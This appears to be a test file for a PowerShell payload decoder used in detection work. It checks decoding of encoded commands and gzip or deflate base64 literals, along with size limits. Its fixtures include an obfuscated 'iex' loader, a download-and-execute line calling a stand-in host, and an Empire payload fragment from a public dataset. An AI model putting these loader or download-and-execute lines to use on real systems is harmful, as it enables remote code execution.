import { test } from 'node:test';
import assert from 'node:assert/strict';
import { deflateRawSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import {
  decodeBase64,
  decodeEncodedCommand,
  decodeInlineBase64,
  MAX_DECODED_BYTES,
} from './powershell-decode.js';

const enc16 = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');

test('property: -EncodedCommand roundtrip (UTF-16LE base64)', () => {
  fc.assert(
    fc.property(fc.string({ minLength: 1, maxLength: 200 }), (s) => {
      // Lone surrogates do not survive UTF-16 text decoding; compare what encodes back equal.
      const text = Buffer.from(s, 'utf16le').toString('utf16le');
      assert.equal(decodeEncodedCommand(enc16(text))?.text, text);
    }),
    { numRuns: 500 },
  );
});

test('property: random input never throws', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (s) => {
      decodeEncodedCommand(s);
      decodeBase64(s);
      decodeInlineBase64(s);
      decodeInlineBase64(`[Convert]::FromBase64String('${s}')`);
    }),
    { numRuns: 1000 },
  );
  fc.assert(
    fc.property(fc.base64String({ maxLength: 400 }), (s) => {
      decodeInlineBase64(
        `IEX (New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('${s}'),0))`,
      );
      decodeInlineBase64(
        `New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String("${s}"))`,
      );
    }),
    { numRuns: 300 },
  );
});

test('the Empire Debug value (first 400 base64 chars of the OTRF dataset) decodes', () => {
  // From the EID 13 on HKLM\...\CurrentVersion\Debug in
  // attack/mordor/empire_persistence_registry_modification_run_keys_elevated_user.zip.
  const prefix =
    'SQBmACgAJABQAFMAVgBlAHIAcwBpAE8AbgBUAEEAQgBMAEUALgBQAFMAVgBFAFIAcwBpAE8ATgAuAE0AYQBqAE8AcgAgAC0ARwBFACAAMwApAHsA';
  assert.equal(decodeEncodedCommand(prefix)?.text, 'If($PSVersiOnTABLE.PSVERsiON.MajOr -GE 3){');
});

test('FromBase64String literals: text, gzip and deflate', () => {
  const gz = gzipSync(Buffer.from('IEX (iwr http://a.b/c)')).toString('base64');
  const [g] = decodeInlineBase64(
    `sal a New-Object;iex(a IO.StreamReader((a IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('${gz}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`,
  );
  assert.equal(g?.encoding, 'gzip');
  assert.equal(g?.text, 'IEX (iwr http://a.b/c)');
  const df = deflateRawSync(Buffer.from('calc.exe')).toString('base64');
  const [d] = decodeInlineBase64(
    `New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String("${df}"),[IO.Compression.CompressionMode]::Decompress)`,
  );
  assert.equal(d?.encoding, 'deflate');
  assert.equal(d?.text, 'calc.exe');
  const [u] = decodeInlineBase64(
    `[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${enc16('whoami')}'))`,
  );
  assert.equal(u?.text, 'whoami');
  const [a] = decodeInlineBase64(
    `[Convert]::FromBase64String('${Buffer.from('hello').toString('base64')}')`,
  );
  assert.deepEqual(a, { encoding: 'utf8', text: 'hello', truncated: false });
});

test('size limits: huge base64 and a decompression bomb are cut, not expanded', () => {
  const huge = 'QUFB'.repeat(1_000_000); // 4 MB of base64 -> 3 MB of bytes
  const r = decodeBase64(huge);
  assert.ok(r);
  assert.equal(r.truncated, true);
  assert.ok(r.bytes.length <= MAX_DECODED_BYTES);
  const bomb = gzipSync(Buffer.alloc(16 * 1024 * 1024)).toString('base64');
  const [b] = decodeInlineBase64(`GzipStream([Convert]::FromBase64String('${bomb}'))`);
  assert.equal(b?.truncated, true);
  assert.ok((b?.text.length ?? 0) <= MAX_DECODED_BYTES);
});

test('not base64: undefined, never a throw', () => {
  assert.equal(decodeEncodedCommand('$x'), undefined);
  assert.equal(decodeBase64('abc$'), undefined);
  assert.equal(decodeBase64('a'), undefined);
});
